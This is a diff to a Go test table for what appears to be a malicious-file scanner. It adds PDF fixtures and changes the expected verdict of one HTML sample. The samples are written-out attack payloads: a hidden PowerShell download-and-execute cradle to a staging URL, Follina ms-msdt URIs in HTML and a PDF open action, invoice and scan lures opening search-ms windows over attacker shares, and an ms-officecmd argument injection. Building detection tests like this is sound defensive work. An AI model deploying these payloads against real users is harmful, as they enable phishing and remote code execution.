@@ -129,11 +129,16 @@ window.location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_Rebrow
 		{Name: "deeplink.settingcontent-ms", Want: verdict.Malicious, Why: "settings shortcut whose DeepLink starts PowerShell with a download cradle", Data: settingContent(`%windir%\system32\cmd.exe /c powershell -w hidden -c "iex (New-Object Net.WebClient).DownloadString('` + stageURL + `')"`)},
 		// --- HTML ---
 		{Name: "follina.html", Want: verdict.Malicious, Why: "page that navigates to ms-msdt: (Follina, CVE-2022-30190)", Data: []byte(follina)},
-		{Name: "search-ms.html", Want: verdict.HighlySuspicious, Why: "page that sends the reader to a search-ms: window over a WebDAV share", Data: []byte(`<!DOCTYPE html><html><head><title>Invoice</title></head><body>
+		{Name: "search-ms.html", Want: verdict.Malicious, Why: "page that sends the reader to a search-ms: window over a WebDAV share", Data: []byte(`<!DOCTYPE html><html><head><title>Invoice</title></head><body>
 <p>Your invoice is ready. If the window does not open, <a href="search:query=invoice&crumb=location:\\` + davHost + `\DavWWWRoot\inv&displayname=Invoice">click here</a>.</p>
 <script>setTimeout(function () { window.location.href = 'search-ms:query=invoice&crumb=location:\\\\` + davHost + `\\DavWWWRoot\\inv'; }, 500);</script>
 </body></html>`)},
 		{Name: "officecmd.html", Want: verdict.Malicious, Why: "page linking to ms-officecmd: (Office launcher argument injection)", Data: []byte(`<html><body><a href='ms-officecmd:{"id":3,"LocalProviders.LaunchOfficeAppForResult":{"details":{"appId":5,"name":"Teams","discovery":{"uri":"--gpu-launcher=\"C:\\Windows\\System32\\cmd /c calc\""}},"filename":"a"}}'>Open in Teams</a></body></html>`)},
+
+		{Name: "msdt-link.pdf", Want: verdict.Malicious, Why: "PDF whose open action follows an ms-msdt: URI (Follina from a PDF reader)", Data: SimplePDF("Loading…", "/OpenAction 5 0 R",
+			PDFObj{Body: "<< /S /URI /URI (ms-msdt:/id PCWDiagnostic /skip force /param \\(IT_BrowseForFile=calc\\)) >>"})},
+		{Name: "search-link.pdf", Want: verdict.HighlySuspicious, Why: "PDF link to a search-ms: window over an attacker's share", Data: SimplePDF("Your scanned documents", "",
+			PDFObj{Body: `<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (search-ms:query=scan&crumb=location:` + strings.Repeat(`\`, 4) + smbHost + strings.Repeat(`\`, 4) + `scans) >> >>`})},
 
 		// --- clean look-alikes ---
 		{Name: "clean-intranet.url", Want: verdict.Clean, Why: ".url to a web page with a local icon", Data: ini(
